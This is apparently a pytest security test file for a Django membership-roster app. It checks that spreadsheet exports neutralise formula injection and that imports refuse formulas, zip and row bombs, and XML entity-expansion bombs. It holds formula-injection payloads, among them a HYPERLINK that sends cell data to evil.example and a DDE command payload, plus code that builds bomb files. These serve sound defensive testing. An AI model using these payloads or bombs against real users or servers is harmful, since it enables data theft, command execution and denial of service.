"""Attack: formula injection through exports, formulas and bombs through imports."""

import ast
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core.spreadsheets import FORMULA_TRIGGERS, csv_bytes, new_workbook, streamed_sheet, workbook_bytes
from members.models import Member
from members.services.roster import COLUMNS, roster_check
from members.tests.roster_files import roster_file, roster_row
from training.services.online import online_hours_check

ROOT = Path(settings.BASE_DIR)
EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_live_formula(content: bytes):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    for cell in _cells(content):
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_TRIGGERS), (cell.coordinate, cell.value)


# --- writing ---------------------------------------------------------------


def test_writer_neutralises_every_formula_trigger():
    workbook = new_workbook()
    workbook.active.append(EVIL)
    workbook.active["A3"] = "=1+1"  # even a formula set on purpose leaves as text
    content = workbook_bytes(workbook)
    assert_no_live_formula(content)
    values = [cell.value for cell in _cells(content) if cell.value]
    # XML turns a carriage return into a line feed when read back.
    assert values[: len(EVIL)] == ["'" + v.replace("\r", "\n") for v in EVIL]
    text = csv_bytes([EVIL, ["plain", 12, -3]]).decode("utf-8-sig")
    first_line_cells = text.split("\r\n")[0]
    assert first_line_cells.startswith("\"'=HYPERLINK(")
    assert "'=cmd|" in text and ",'+1+1," in text and ",'-2+3," in text and ",'@SUM(A1)," in text
    assert "plain,12,-3" in text  # numbers are left alone


def test_streamed_sheets_neutralise_plain_and_styled_cells_and_a_bare_streamed_sheet_is_refused():
    workbook = new_workbook(write_only=True)
    sheet = streamed_sheet(workbook, "报表")
    sheet.append(EVIL)
    sheet.append([sheet.cell(value, number_format="0.0") for value in EVIL])
    content = workbook_bytes(workbook)
    assert_no_live_formula(content)
    values = [cell.value for cell in _cells(content)]
    expected = ["'" + v.replace("\r", "\n") for v in EVIL]
    assert values == expected + expected
    bare = new_workbook(write_only=True)
    bare.create_sheet("raw").append(["=1+1"])
    with pytest.raises(ValueError, match="streamed_sheet"):
        workbook_bytes(bare)


@pytest.mark.django_db
def test_roster_export_carries_no_formula_from_a_name_typed_in_the_edit_form(client, secretary, member):
    target = Member.objects.get(user=member)
    Member.objects.filter(pk=target.pk).update(
        full_name=EVIL[0][:50], job_post=EVIL[1], party_group=EVIL[4], landline=EVIL[2], work_unit=EVIL[3]
    )
    client.force_login(secretary)
    content = client.get(reverse("members:member_export")).content
    assert_no_live_formula(content)
    assert "'" + EVIL[1] in [c.value for c in _cells(content)]


@pytest.mark.django_db
def test_dashboard_export_carries_no_formula_from_a_branch_name(client, leader, branch_a, member):
    branch_a.name = '=HYPERLINK("http://evil.example","x")'
    branch_a.save()
    client.force_login(leader)
    response = client.get(reverse("assessments:export"))
    assert response.status_code == 200
    assert_no_live_formula(response.content)


def test_every_spreadsheet_goes_through_core_spreadsheets():
    """No module but core/spreadsheets.py builds, saves or opens a workbook or writes CSV."""
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in (".venv", "var", "bench") or "tests" in relative.parts:
            continue
        if str(relative) == "core/spreadsheets.py":
            continue
        tree = ast.parse(path.read_text())
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("openpyxl"):
                if {a.name for a in node.names} & {"Workbook", "load_workbook"}:
                    offenders.append(str(relative))
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and getattr(node.value, "id", "") == "csv"
            ):
                offenders.append(str(relative))
    assert offenders == []


# --- reading: formulas and short rows ----------------------------------------


@pytest.mark.django_db
def test_imported_formula_is_refused_naming_row_and_column(branch_a):
    file = roster_file([roster_row(1, branch_a.name), roster_row(2, branch_a.name, 工作岗位="=1+1")])
    check = roster_check(file, actor=None)
    assert not check.is_valid
    assert [e.message for e in check.errors] == [
        "第 3 行 L 列是公式。请把它换成数值（复制后“粘贴为数值”），再重新上传。"
    ]


@pytest.mark.django_db
def test_roster_row_shorter_than_the_header_is_a_row_error(branch_a):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(COLUMNS))
    sheet.append([1, "短行"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    check = roster_check(buffer, actor=None)
    assert not check.is_valid
    assert {e.line for e in check.errors} == {2}
    assert "身份证号" in {e.column for e in check.errors}


@pytest.mark.django_db
@pytest.mark.parametrize(
    "cells",
    [
        ["\x00", "\x00", "\x00", "\x00"],
        ["x" * 5000, "9" * 400, "1e308", "-1"],
        ["=1+1", "@", "+", "NaN"],
        ["", "", "", "🙂" * 30],
        [],
        ["only one"],
    ],
)
def test_online_import_cells_never_crash(cells):
    text = "身份证号,学习日期,课程名称,学时\n" + ",".join(cells) + "\n"
    buffer = io.BytesIO(text.encode())
    check = online_hours_check(buffer, filename="a.csv", actor=None)
    assert not check.is_valid


@pytest.mark.django_db
@pytest.mark.parametrize("value", ["\u200b", "x" * 5000, "1e308", "-1", "=1", "🙂", 10**20, -5.5])
def test_roster_import_cells_never_crash(branch_a, value):
    row = roster_row(1, branch_a.name)
    for column in ("身份证号", "出生日期", "加入党组织日期", "手机号码", "性别", "党籍状态", "姓名"):
        check = roster_check(roster_file([{**row, column: value}]), actor=None)
        assert isinstance(check.is_valid, bool)
        assert not check.is_valid or column == "姓名"


# --- reading: bombs, measured in a fresh process ----------------------------

XML = '<?xml version="1.0" encoding="UTF-8"?>'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
PKG = "http://schemas.openxmlformats.org/package/2006"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SML = "application/vnd.openxmlformats-officedocument.spreadsheetml"
CONTENT_TYPES = (
    f'{XML}<Types xmlns="{PKG}/content-types">'
    f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{SML}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SML}.worksheet+xml"/>'
    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SML}.sharedStrings+xml"/>'
    "</Types>"
).encode()
ROOT_RELS = (
    f'{XML}<Relationships xmlns="{PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
).encode()
WORKBOOK = (
    f'{XML}<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>'
    '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
).encode()
WORKBOOK_RELS = (
    f'{XML}<Relationships xmlns="{PKG}/relationships">'
    f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
).encode()
SHEET_HEAD = f'{XML}<worksheet xmlns="{MAIN}">'.encode()


def _bomb(path: Path, *, sheet_rows: int, dimension: bool, shared_bytes: int) -> Path:
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(SHEET_HEAD)
            if dimension:
                part.write(f'<dimension ref="A1:A{sheet_rows}"/>'.encode())
            part.write(b"<sheetData>")
            chunk = row * 10000
            for _ in range(sheet_rows // 10000):
                part.write(chunk)
            part.write(b"</sheetData></worksheet>")
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(
                b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            )
            chunk = b"<si><t>" + b"a" * (2**20 - 20) + b"</t></si>"
            for _ in range(shared_bytes // len(chunk)):
                part.write(chunk)
            part.write(b"</sst>")
    return path


@pytest.fixture(scope="module")
def bombs(tmp_path_factory):
    folder = tmp_path_factory.mktemp("bombs")
    return {
        # 3 million rows behind a file of a few hundred KB.
        "rows": _bomb(folder / "rows.xlsx", sheet_rows=3_000_000, dimension=True, shared_bytes=0),
        # A shared-strings part of 1 GB behind a file of about 1 MB.
        "strings": _bomb(folder / "strings.xlsx", sheet_rows=10_000, dimension=False, shared_bytes=2**30),
        # Under every size limit and without a dimension: only the streamed row limit stops it.
        "stream": _bomb(folder / "stream.xlsx", sheet_rows=200_000, dimension=False, shared_bytes=0),
    }


MEASURE = r"""
import json, os, sys, time
import django
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings.test")
django.setup()
from django.core.exceptions import ValidationError
from django.utils import translation
from core.spreadsheets import read_xlsx_rows
from members.services.roster import COLUMNS, roster_check

def vm(key):
    for line in open("/proc/self/status"):
        if line.startswith(key):
            return int(line.split()[1]) * 1024

translation.activate("zh-hans")
path, how = sys.argv[1], sys.argv[2]
# Reset the peak (VmHWM) to the current RSS, so the peak read afterwards is this work's.
with open("/proc/self/clear_refs", "w") as clear:
    clear.write("5")
before = vm("VmRSS")
start = time.perf_counter()
with open(path, "rb") as handle:
    if how == "roster":
        message = roster_check(handle, actor=None).errors[0].message
    else:
        try:
            read_xlsx_rows(handle, max_rows=10000)
            message = ""
        except ValidationError as exc:
            message = exc.messages[0]
elapsed = time.perf_counter() - start
print(json.dumps({"seconds": elapsed, "growth": vm("VmHWM") - before, "message": message}))
"""


@pytest.mark.parametrize("kind", ["rows", "strings", "stream"])
@pytest.mark.parametrize("how", ["roster", "online"])
def test_bombs_are_refused_fast_and_small(bombs, kind, how):
    assert bombs[kind].stat().st_size < 3 * 2**20
    result = subprocess.run(
        [sys.executable, "-c", MEASURE, str(bombs[kind]), how],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={**os.environ},
        timeout=120,
        check=True,
    )
    measured = json.loads(result.stdout.strip().splitlines()[-1])
    assert measured["seconds"] <= 2.0, measured
    assert measured["growth"] <= 100 * 2**20, measured
    assert measured["message"] and any("\u4e00" <= ch <= "\u9fff" for ch in measured["message"]), measured


@pytest.mark.django_db
def test_sheet_declaring_too_many_rows_is_refused_before_parsing(tmp_path):
    from django.core.exceptions import ValidationError

    from core.spreadsheets import read_xlsx_rows

    path = _bomb(tmp_path / "dimension.xlsx", sheet_rows=10_000, dimension=False, shared_bytes=0)
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(tmp_path / "lying.xlsx", "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b'<dimension ref="A1:Q3000000"/><sheetData>', 1)
            target.writestr(name, data)
    with open(tmp_path / "lying.xlsx", "rb") as handle, pytest.raises(ValidationError) as refused:
        read_xlsx_rows(handle, max_rows=5000)
    assert "5000" in refused.value.messages[0]


def test_entity_expansion_bomb_is_refused_before_parsing(tmp_path):
    from django.core.exceptions import ValidationError

    from core.spreadsheets import read_xlsx_rows

    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    path = _bomb(tmp_path / "laughs.xlsx", sheet_rows=10_000, dimension=False, shared_bytes=0)
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(tmp_path / "evil.xlsx", "w") as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/sharedStrings.xml":
                data = data.replace(b"?>", b"?>" + laughs.encode(), 1)
            target.writestr(name, data)
    with open(tmp_path / "evil.xlsx", "rb") as handle, pytest.raises(ValidationError) as refused:
        read_xlsx_rows(handle, max_rows=10_000)
    assert "XML" in refused.value.messages[0]


@pytest.mark.django_db
def test_bomb_upload_gets_a_chinese_error_page(client, secretary, bombs):
    client.force_login(secretary)
    with open(bombs["rows"], "rb") as handle:
        response = client.post(reverse("members:roster_import"), {"file": handle})
    assert response.status_code == 400
    assert "超过" in response.content.decode()
